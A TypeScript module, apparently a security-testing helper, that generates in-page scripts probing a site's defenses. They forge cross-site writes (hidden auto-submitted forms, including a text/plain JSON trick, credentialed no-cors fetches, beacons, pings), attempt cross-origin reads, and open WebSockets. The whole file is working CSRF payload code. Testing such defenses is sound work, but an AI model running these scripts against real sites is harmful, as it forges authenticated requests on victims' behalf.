/** A request that would change something. */
export interface Target {
  method: string;
  url: string;
  body: unknown;
}

/**
 * A script that sends each target in all ways that a page has: forms of the three encodings, scripts in every content type that
 * needs no leave, with JSON after a preflight, beacons, pings. Each URL is marked (`by=form0`); resolves to the marks of those
 * that a browser sends in any case.
 */
export function attackByWrites(targets: Target[]): string {
  return `(async (targets) => {
    const sent = [];
    const marked = (url, mark) => { const address = new URL(url); address.searchParams.set('by', mark); return address.href; };
    const attempts = [];
    const sink = document.createElement('iframe');
    sink.name = 'sink';
    document.body.append(sink);
    for (const [index, { method, url, body }] of targets.entries()) {
      const text = JSON.stringify(body ?? {});
      for (const [kind, type] of [['form', 'application/x-www-form-urlencoded'], ['parts', 'multipart/form-data'], ['plain', 'text/plain']]) {
        const mark = kind + index;
        const frame = document.createElement('iframe');
        frame.name = mark;
        document.body.append(frame);
        const form = document.createElement('form');
        Object.assign(form, { method: 'post', enctype: type, action: marked(url, mark), target: mark });
        // In text/plain, name and value make valid JSON.
        const field = document.createElement('input');
        Object.assign(field, { type: 'hidden', name: text.slice(0, -1) + (text === '{}' ? '' : ',') + '"x":"', value: '"}' });
        form.append(field);
        document.body.append(form);
        form.submit();
        sent.push(mark);
      }
      const send = (mark, options) => attempts.push(fetch(marked(url, mark), { credentials: 'include', ...options }).catch(() => null));
      const inParts = new FormData();
      inParts.set('x', text);
      send('simple' + index, { method: 'POST', mode: 'no-cors', body: text });
      send('untyped' + index, { method: 'POST', mode: 'no-cors', body: new Blob([text]) });
      send('fields' + index, { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ x: text }) });
      send('multi' + index, { method: 'POST', mode: 'no-cors', body: inParts, referrerPolicy: 'no-referrer' });
      sent.push('simple' + index, 'untyped' + index, 'fields' + index, 'multi' + index);
      // These ask for leave first (OPTIONS).
      send('json' + index, { method: 'POST', mode: 'cors', headers: { 'Content-Type': 'application/json' }, body: text });
      send('method' + index, { method, mode: 'cors', headers: { 'Content-Type': 'application/json' }, ...(method === 'DELETE' ? {} : { body: text }) });
      navigator.sendBeacon(marked(url, 'beacon' + index), text);
      const link = document.createElement('a');
      Object.assign(link, { href: 'about:blank', target: 'sink', ping: marked(url, 'ping' + index) });
      document.body.append(link);
      link.click();
    }
    await Promise.all(attempts);
    return sent;
  })(${JSON.stringify(targets)})`;
}

/**
 * A script that tries to read each URL: as a picture, script, style sheet, frame, object, and by fetch. Resolves to what it could
 * learn of the content.
 */
export function attackByReads(urls: string[]): string {
  return `(async (urls) => {
    const learned = [];
    const marked = (url, mark) => { const address = new URL(url); address.searchParams.set('by', mark); return address.href; };
    const load = (tag, attributes, looked = () => null) => new Promise((resolve) => {
      const element = Object.assign(document.createElement(tag), attributes);
      element.onload = () => resolve(looked(element) && learned.push(tag + ' ' + looked(element)));
      element.onerror = () => resolve();
      document.body.append(element);
    });
    const attempts = [];
    for (const [index, url] of urls.entries()) {
      const mark = (kind) => marked(url, kind + index);
      attempts.push(
        load('img', { src: mark('img') }, () => url),
        load('script', { src: mark('script') }, () => url),
        load('script', { src: mark('module'), type: 'module' }, () => url),
        load('link', { rel: 'stylesheet', href: mark('style') }, () => url),
        load('iframe', { src: mark('frame') }, (frame) => frame.contentDocument?.body?.textContent),
        ...['cors', 'no-cors'].map((mode) => fetch(mark(mode), { mode, credentials: 'include' }).then(async (answer) => {
          const text = await answer.text();
          if (text !== '') learned.push(mode + ' ' + url);
        }, () => null)),
      );
    }
    await Promise.all(attempts);
    return learned;
  })(${JSON.stringify(urls)})`;
}

/** A script that opens a websocket to each URL; resolves to "refused" or what was heard first, for each. */
export function attackBySockets(urls: string[]): string {
  return `Promise.all(${JSON.stringify(urls)}.map((url) => new Promise((resolve) => {
    const socket = new WebSocket(url.replace(/^http/, 'ws'));
    socket.onmessage = ({ data }) => resolve('heard ' + data);
    socket.onopen = () => resolve('opened');
    socket.onclose = () => resolve('refused');
  })))`;
}
